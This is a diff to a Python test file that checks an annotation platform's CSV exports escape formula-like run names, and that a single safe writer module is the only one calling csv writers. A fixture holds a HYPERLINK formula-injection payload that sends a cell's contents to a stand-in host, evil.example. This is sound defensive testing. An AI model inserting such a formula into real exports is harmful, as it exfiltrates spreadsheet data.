@@ -2,6 +2,7 @@
 would run as a formula, and leaves numbers alone."""
 from __future__ import annotations
 
+import ast
 import csv
 import io
 
@@ -13,6 +14,9 @@ from annotation.models import Caption, Label, PooledPair, Report, Run
 from annotation.selectors.moments import infap_csv, moment_metrics_csv
 from annotation.services.exports import artefact_file, export_create
 from annotation.services.reports.create import report_create
+from annotation.services.judging.simulation import judging_report_file, judging_simulation_create
+from tests.annotation.services.judging.simulation_world import tiny_world
+from tests.conftest import REPO
 from tests.factories import make_pool_with_runs, make_rater, make_user
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -104,3 +108,41 @@ def test_moment_and_infap_csvs_escape_names_and_keep_negative_figures():
         "runs": [{"run_id": 7, "run": "r", "per_query": {"xinfAP": {"=q1": -0.125}}, "mean": {"xinfAP": -0.125}}]})
     rows = list(csv.reader(io.StringIO(infap_csv(report=infap))))
     assert rows[1] == ["7", "r", "'=q1", "-0.125000"] and rows[2] == ["7", "r", "all", "-0.125000"]
+
+
+def test_judging_simulation_curves_csv_escapes_run_names(db):
+    """curves.csv was written by a plain csv.writer in the analysis code (issue 22, finding 7)."""
+    _, pool, runs = tiny_world()
+    Run.objects.filter(pk=runs[0].pk).update(name=LINK)
+    report = judging_simulation_create(pool=pool, params={"strategies": ["shallow_first"], "replays": 2, "seed": 1,
+                                                          "checkpoints": [0.5, 1.0], "measure": "C@10"})
+    _, content = judging_report_file(report=report, name="curves.csv")
+    rows = list(csv.DictReader(io.StringIO(content.decode())))
+    assert {r["run"] for r in rows} == {"'" + LINK, "Y"}
+    assert all(not r["kendall_tau"].startswith("'") for r in rows)  # numbers (tau can be negative) stay numbers
+
+
+# --- no other writer ---------------------------------------------------------------------------
+
+CSV_WRITER_NAMES = {"writer", "DictWriter"}
+
+
+def test_safe_csv_writer_is_the_only_csv_writer():
+    """Every CSV the platform writes goes through annotation/formats/csv_safe.py: no other module
+    calls csv.writer or csv.DictWriter, so a new output cannot forget the escaping."""
+    offenders = []
+    for folder in ("annotation", "api", "frontend", "config"):
+        for path in sorted((REPO / folder).rglob("*.py")):
+            if path == REPO / "annotation" / "formats" / "csv_safe.py" or "migrations" in path.parts:
+                continue
+            tree = ast.parse(path.read_text(), filename=str(path))
+            from_csv = {alias.asname or alias.name for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
+                        and node.module == "csv" for alias in node.names if alias.name in CSV_WRITER_NAMES}
+            for node in ast.walk(tree):
+                if not isinstance(node, ast.Call):
+                    continue
+                f = node.func
+                if (isinstance(f, ast.Attribute) and f.attr in CSV_WRITER_NAMES and isinstance(f.value, ast.Name)
+                        and f.value.id == "csv") or (isinstance(f, ast.Name) and f.id in from_csv):
+                    offenders.append(f"{path.relative_to(REPO)}:{node.lineno}")
+    assert offenders == []
